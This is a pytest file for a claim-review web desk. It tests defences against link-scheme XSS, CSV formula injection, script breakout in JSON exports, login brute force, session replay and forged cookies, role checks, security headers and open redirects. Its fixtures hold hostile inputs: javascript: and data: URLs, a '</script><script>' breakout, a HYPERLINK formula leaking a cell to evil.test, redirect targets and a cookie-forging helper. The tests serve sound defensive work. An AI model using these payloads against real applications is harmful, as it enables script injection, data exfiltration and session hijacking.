"""The review desk against hostile pages and hostile users (issue 15, points 7-14): links
and exports of attacker-chosen text, login throttling, revocable sessions, roles, security
headers and out-of-range ids. A small hand-built store (no spaCy), copied for each test."""

import csv
import io
import json
import re
import shutil
from base64 import b64encode

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient
from itsdangerous import TimestampSigner
from sqlalchemy import select
from sqlalchemy.orm import Session

from claimlink.flows.cli import cli
from claimlink.models import make_engine
from claimlink.models import schema as m
from claimlink.models import store
from claimlink.models.db import upgrade
from claimlink.models.users import add_user, remove_user
from claimlink.review.app import create_app
from claimlink.review.throttle import Busy, LoginThrottle, ThrottleOptions
from claimlink.settings import Settings
from tests.conftest import ROOT

ADMIN, REVIEWER, PASSWORD = "ada", "rex", "correct horse battery"
HUGE = "99999999999999999999"
BREAKOUT = '</script><script>alert("pwned")</script> & <!-- more'
FORMULAS = ['=HYPERLINK("http://evil.test/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(1+1)", "\tx=1", "\rx=1"]


def _pair(s: Session, n: int, url_a: str, url_b: str, speaker_a: str, content_a: str, speaker_b: str,
          content_b: str, status: str = "open") -> int:
    claims = []
    for side, (url, speaker, content, stance) in enumerate(((url_a, speaker_a, content_a, "asserts"),
                                                            (url_b, speaker_b, content_b, "denies"))):
        text = f"{speaker} said that {content}."
        art, _ = store.store_article(s, canonical_url=url, url=f"http://t.test/{n}/{side}", text=text,
                                     content_hash=f"h{n}-{side}", title=f"Article {n}{'ab'[side]}",
                                     outlet="Test Times", published=None, authors=[], language="en", source_id=None)
        claim = m.Claim(article_id=art.id, speaker_name=speaker, cue="said", cue_start=len(speaker) + 1,
                        content=content, content_start=text.index(content), content_spans=[], kind="indirect",
                        stance=stance, sentence=text, sentence_start=0, paragraph=0, features={},
                        linked_at=store.utcnow())
        s.add(claim)
        claims.append(claim)
    s.flush()
    link = m.ClaimLink(claim_a_id=claims[0].id, claim_b_id=claims[1].id, relation="contradicts", score=0.9 - n / 100,
                       reasons=[{"code": "denies_content", "text": f"{speaker_b} denies it"}], linker_version="t",
                       status=status)
    s.add(link)
    s.flush()
    return link.id


@pytest.fixture(scope="module")
def template(tmp_path_factory):
    path = tmp_path_factory.mktemp("desk") / "template.db"
    url = f"sqlite:///{path}"
    upgrade(url)
    engine = make_engine(url)
    with Session(engine) as s, s.begin():
        add_user(s, ADMIN, PASSWORD, role="admin")
        add_user(s, REVIEWER, PASSWORD)
        ids = {
            "js": _pair(s, 1, "javascript:alert(document.domain)//", "java\tscript:alert(1)//", "A", "one thing",
                        "B", "one thing", status="confirmed"),
            "data": _pair(s, 2, "data:text/html,<script>alert(1)</script>", "https://news.test/ok", "C",
                          "another thing", "D", "another thing"),
            "formula": _pair(s, 3, "http://a.test/x", "http://b.test/y", FORMULAS[0], FORMULAS[1], FORMULAS[2],
                             FORMULAS[3], status="confirmed"),
            "breakout": _pair(s, 4, "http://a.test/b", "http://b.test/b", "E", BREAKOUT, "F", "x", status="confirmed"),
            "tabs": _pair(s, 5, "http://a.test/t", "http://b.test/t", FORMULAS[4], FORMULAS[5], "G", "y",
                          status="confirmed"),
        }
    engine.dispose()
    return path, ids


@pytest.fixture
def desk(template, tmp_path):
    path, ids = template
    copy = tmp_path / "desk.db"
    shutil.copy(path, copy)
    return f"sqlite:///{copy}", ids


def csrf_of(html: str) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', html).group(1)


def login(client, name=ADMIN, password=PASSWORD):
    return client.post("/login", data={"name": name, "password": password, "csrf": csrf_of(client.get("/login").text)},
                       follow_redirects=False)


def logged_in(url, name=ADMIN, **kwargs) -> tuple[TestClient, str]:
    client = TestClient(create_app(url, secret_key="k", **kwargs))
    r = login(client, name)
    assert r.status_code == 303 and r.headers["location"] == "/", r.text
    return client, csrf_of(client.get("/").text)


def status_of(url: str, link_id: int) -> str:
    engine = make_engine(url)
    with Session(engine) as s:
        status = s.get(m.ClaimLink, link_id).status
    engine.dispose()
    return status


# -- 7. only http(s) links ---------------------------------------------------------------------
def test_pair_page_renders_no_javascript_or_data_link(desk):
    url, ids = desk
    client, _ = logged_in(url)
    for key in ("js", "data"):
        page = client.get(f"/pair/{ids[key]}").text
        hrefs = re.findall(r'href="([^"]*)"', page)
        assert hrefs and all(h.startswith(("/", "http://", "https://")) for h in hrefs), hrefs
        assert "not an http(s) URL" in page
    assert 'href="https://news.test/ok"' in client.get(f"/pair/{ids['data']}").text
    exported = client.get("/export/claimreview.json").text + client.get("/export/confirmed.csv").text
    assert "javascript" not in exported and "java\\tscript" not in exported


# -- 8. CSV formula injection ---------------------------------------------------------------------
def test_csv_export_neutralises_formula_cells(desk):
    url, ids = desk
    client, _ = logged_in(url)
    rows = list(csv.reader(io.StringIO(client.get("/export/confirmed.csv").text, newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    for formula in FORMULAS:
        assert "'" + formula in cells, formula
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


# -- 9. ClaimReview JSON-LD breakout ------------------------------------------------------------------
def test_claimreview_json_escapes_script_breakout(desk):
    url, ids = desk
    client, _ = logged_in(url)
    body = client.get("/export/claimreview.json").text
    assert "</script>" not in body and not set("<>&") & set(body)
    assert "\\u003c/script\\u003e" in body
    assert BREAKOUT in [r["claimReviewed"] for r in json.loads(body)]


# -- 10. login throttling and bounded hashing ----------------------------------------------------------
class Clock:
    def __init__(self):
        self.now = 1000.0

    def __call__(self):
        return self.now


def test_throttle_backs_off_per_account_and_per_address():
    clock = Clock()
    t = LoginThrottle(ThrottleOptions(free=3, base=2.0, cap=10.0, forget=100.0), clock=clock)
    for _ in range(3):
        assert t.retry_after("ana", "1.2.3.4") == 0
        t.failed("ana", "1.2.3.4")
    assert t.retry_after("ana", "1.2.3.4") == 0        # free failures cost nothing
    t.failed("ana", "1.2.3.4")
    assert t.retry_after("ana", "5.6.7.8") == 2.0      # the account is locked from anywhere
    assert t.retry_after("bob", "1.2.3.4") == 2.0      # and the address for any account
    assert t.retry_after("bob", "5.6.7.8") == 0
    t.failed("ana", "1.2.3.4")
    t.failed("ana", "1.2.3.4")
    assert t.retry_after("ana", "9.9.9.9") == 8.0      # doubled per failure
    t.failed("ana", "1.2.3.4")
    t.failed("ana", "1.2.3.4")
    assert t.retry_after("ana", "9.9.9.9") == 10.0     # up to the cap
    clock.now += 10.0
    assert t.retry_after("ana", "9.9.9.9") == 0
    t.succeeded("ana")
    clock.now += 1
    t.failed("ana", "9.9.9.9")
    assert t.retry_after("ana", "9.9.9.9") == 0        # success cleared the account's count
    clock.now += 100.0
    t.failed("bob", "1.2.3.4")
    assert t.retry_after("bob", "1.2.3.4") == 0        # the address's old failures were forgotten


def test_throttle_keeps_a_bounded_number_of_keys():
    t = LoginThrottle(ThrottleOptions(max_keys=10), clock=Clock())
    for i in range(100):
        t.failed(f"user{i}", f"10.0.0.{i}")
    assert len(t) == 10


def test_wrong_passwords_lock_the_login_until_the_clock_moves(desk):
    url, _ = desk
    clock = Clock()
    throttle = LoginThrottle(ThrottleOptions(free=5, base=30.0), clock=clock)
    client = TestClient(create_app(url, secret_key="k", throttle=throttle))
    for _ in range(6):
        assert "wrong password" in login(client, ADMIN, "wrong password!").text
    r = login(client, ADMIN, PASSWORD)
    assert r.status_code == 429 and "try again in 30 s" in r.text
    assert client.get("/", follow_redirects=False).headers["location"] == "/login"
    clock.now += 31
    assert login(client, ADMIN, PASSWORD).status_code == 303


def test_password_hashes_run_in_bounded_slots(desk):
    url, _ = desk
    throttle = LoginThrottle(ThrottleOptions(hash_slots=2, hash_wait=0.0), clock=Clock())
    client = TestClient(create_app(url, secret_key="k", throttle=throttle))
    with throttle.hash_slot(), throttle.hash_slot():
        with pytest.raises(Busy):
            with throttle.hash_slot():
                pass
        r = login(client)
        assert r.status_code == 503 and "busy" in r.text
    assert login(client).status_code == 303


# -- 11. revocable sessions ------------------------------------------------------------------------------
def forged_cookie(data: dict, key: str = "k") -> str:
    return TimestampSigner(key).sign(b64encode(json.dumps(data).encode())).decode()


def test_cookie_is_dead_after_logout(desk):
    url, _ = desk
    client, csrf = logged_in(url)
    cookie = client.cookies.get("claimlink_session")
    client.post("/logout", data={"csrf": csrf}, follow_redirects=False)
    replay = TestClient(create_app(url, secret_key="k"), cookies={"claimlink_session": cookie})
    r = replay.get("/", follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/login"


def test_cookie_of_a_removed_or_unknown_user_is_refused(desk):
    url, _ = desk
    client, _ = logged_in(url, REVIEWER)
    engine = make_engine(url)
    with Session(engine) as s, s.begin():
        remove_user(s, REVIEWER)
    with Session(engine) as s, s.begin():
        add_user(s, REVIEWER, PASSWORD)  # same name again: a new account, the old cookie stays dead
    engine.dispose()
    assert client.get("/", follow_redirects=False).headers["location"] == "/login"
    ghost = forged_cookie({"user": "ghost", "sid": "9999:0:0123456789abcdef", "csrf": "x"})
    anon = TestClient(create_app(url, secret_key="k"), cookies={"claimlink_session": ghost})
    assert anon.get("/", follow_redirects=False).headers["location"] == "/login"


def test_users_disable_and_remove_commands(desk):
    url, _ = desk
    client, _ = logged_in(url, REVIEWER)
    runner = CliRunner()
    r = runner.invoke(cli, ["--database-url", url, "users", "disable", REVIEWER])
    assert r.exit_code == 0 and f"user {REVIEWER} disabled" in r.output
    assert client.get("/", follow_redirects=False).headers["location"] == "/login"
    assert "wrong password" in login(TestClient(create_app(url, secret_key="k")), REVIEWER).text
    r = runner.invoke(cli, ["--database-url", url, "users", "remove", REVIEWER])
    assert r.exit_code == 0 and f"user {REVIEWER} removed" in r.output
    r = runner.invoke(cli, ["--database-url", url, "users", "remove", REVIEWER])
    assert r.exit_code == 1 and r.output.strip() == f"Error: no user '{REVIEWER}' [E620]"
    r = runner.invoke(cli, ["--database-url", url, "users", "role", ADMIN, "reviewer"])
    assert r.exit_code == 0 and "now reviewer" in r.output
    engine = make_engine(url)
    with Session(engine) as s:
        assert s.scalar(select(m.User.role).where(m.User.name == ADMIN)) == "reviewer"
        assert s.scalar(select(m.User.id).where(m.User.name == REVIEWER)) is None
    engine.dispose()


def test_secure_cookie_setting(desk):
    url, _ = desk
    assert Settings.from_env({"CLAIMLINK_SECURE_COOKIES": "1"}).secure_cookies is True
    assert Settings.from_env({}).secure_cookies is False
    for secure in (True, False):
        client = TestClient(create_app(url, secret_key="k", secure_cookies=secure), base_url="https://testserver")
        r = login(client)
        assert r.status_code == 303
        assert ("secure" in r.headers["set-cookie"].lower()) is secure


# -- 12. roles ----------------------------------------------------------------------------------------------
def test_only_admins_bulk_reject_and_reopen(desk):
    url, ids = desk
    reviewer, csrf = logged_in(url, REVIEWER)
    assert 'name="ids"' not in reviewer.get("/").text
    r = reviewer.post("/bulk-reject", data={"ids": [ids["data"]], "csrf": csrf}, follow_redirects=False)
    assert r.status_code == 403 and status_of(url, ids["data"]) == "open"
    r = reviewer.post(f"/pair/{ids['js']}/decide", data={"decision": "reopen", "csrf": csrf}, follow_redirects=False)
    assert r.status_code == 403 and status_of(url, ids["js"]) == "confirmed"
    assert 'value="reopen"' not in reviewer.get(f"/pair/{ids['js']}").text
    r = reviewer.post(f"/pair/{ids['data']}/decide", data={"decision": "confirm", "csrf": csrf},
                      follow_redirects=False)
    assert r.status_code == 303 and status_of(url, ids["data"]) == "confirmed"

    admin, csrf = logged_in(url, ADMIN)
    assert 'value="reopen"' in admin.get(f"/pair/{ids['js']}").text
    r = admin.post(f"/pair/{ids['js']}/decide", data={"decision": "reopen", "csrf": csrf}, follow_redirects=False)
    assert r.status_code == 303 and status_of(url, ids["js"]) == "open"
    r = admin.post("/bulk-reject", data={"ids": [ids["js"]], "csrf": csrf}, follow_redirects=False)
    assert r.status_code == 303 and status_of(url, ids["js"]) == "rejected"


def test_migration_makes_existing_users_reviewers(tmp_path):
    from sqlalchemy import text

    from claimlink.models.db import downgrade

    url = f"sqlite:///{tmp_path / 'm.db'}"
    upgrade(url, "0003")
    engine = make_engine(url)
    with engine.begin() as conn:
        conn.execute(text("INSERT INTO users (name, password_hash) VALUES ('old', 'x')"))
    upgrade(url)
    with engine.connect() as conn:
        assert conn.execute(text("SELECT role, session_generation, disabled_at FROM users")).one() == \
            ("reviewer", 0, None)
    downgrade(url, "0003")
    with engine.connect() as conn:
        assert conn.execute(text("SELECT name FROM users")).scalar() == "old"
    engine.dispose()


# -- 13. security headers -------------------------------------------------------------------------------------
def test_security_headers_on_every_response(desk):
    url, ids = desk
    anon = TestClient(create_app(url, secret_key="k"))
    client, _ = logged_in(url)
    responses = [anon.get("/login"), anon.get("/", follow_redirects=False), anon.get("/static/app.js"),
                 client.get("/"), client.get(f"/pair/{ids['js']}"), client.get("/pair/424242"),
                 client.get("/no-such-page"), client.get("/export/claimreview.json")]
    for r in responses:
        csp = r.headers.get("content-security-policy", "")
        assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp and "'unsafe-inline'" not in csp, r.url
        assert r.headers.get("x-frame-options") == "DENY" and r.headers.get("x-content-type-options") == "nosniff"


def test_templates_hold_no_inline_script_or_handler():
    for template in (ROOT / "review" / "templates").glob("*.html"):
        html = template.read_text()
        assert not re.search(r"<script(?![^>]*\bsrc=\"/static/)", html), template.name
        assert not re.search(r"\son[a-z]+\s*=", html, re.I) and "javascript:" not in html, template.name
        assert " style=" not in html, template.name


# -- 14. out-of-range ids -----------------------------------------------------------------------------------------
def test_oversized_ids_are_404_or_400(desk):
    url, ids = desk
    client, csrf = logged_in(url)
    for n in (HUGE, "9223372036854775808", "2147483648", "-1"):
        assert client.get(f"/pair/{n}").status_code == 404, n
        r = client.post(f"/pair/{n}/decide", data={"decision": "confirm", "csrf": csrf}, follow_redirects=False)
        assert r.status_code == 404, n
    for cursor in (f"0.5:{HUGE}", "1e999:1", "nan:1", "0.5:-1", "x"):
        assert client.get(f"/?after={cursor}").status_code == 400, cursor
    for bad in (HUGE, "-5", "abc"):
        r = client.post("/bulk-reject", data={"ids": [ids["data"], bad], "csrf": csrf}, follow_redirects=False)
        assert r.status_code == 400, bad
    assert status_of(url, ids["data"]) == "open"


def test_only_admins_manage_accounts_on_the_desk(desk):
    url, _ = desk
    reviewer, csrf_r = logged_in(url, REVIEWER)
    assert reviewer.get("/users").status_code == 403
    assert reviewer.post("/users/disable", data={"name": ADMIN, "csrf": csrf_r}).status_code == 403
    admin, csrf = logged_in(url, ADMIN)
    assert REVIEWER in admin.get("/users").text
    r = admin.post("/users/disable", data={"name": REVIEWER, "csrf": csrf}, follow_redirects=False)
    assert r.status_code == 303
    assert reviewer.get("/", follow_redirects=False).headers["location"] == "/login"
    assert admin.post("/users/disable", data={"name": ADMIN, "csrf": csrf}).status_code == 400
    assert admin.post("/users/disable", data={"name": "nobody", "csrf": csrf}).status_code == 404


def test_decision_redirects_stay_on_the_desk(desk):
    url, ids = desk
    client, csrf = logged_in(url)
    for target in ("/\\evil.test/", "//evil.test/", "https://evil.test/", "/\t/evil.test"):
        r = client.post(f"/pair/{ids['data']}/decide", data={"decision": "needs_work", "csrf": csrf,
                                                            "next_url": target}, follow_redirects=False)
        assert r.headers["location"] == f"/pair/{ids['data']}", target
    r = client.post(f"/pair/{ids['data']}/decide", data={"decision": "needs_work", "csrf": csrf,
                                                        "next_url": f"/pair/{ids['js']}"}, follow_redirects=False)
    assert r.headers["location"] == f"/pair/{ids['js']}"
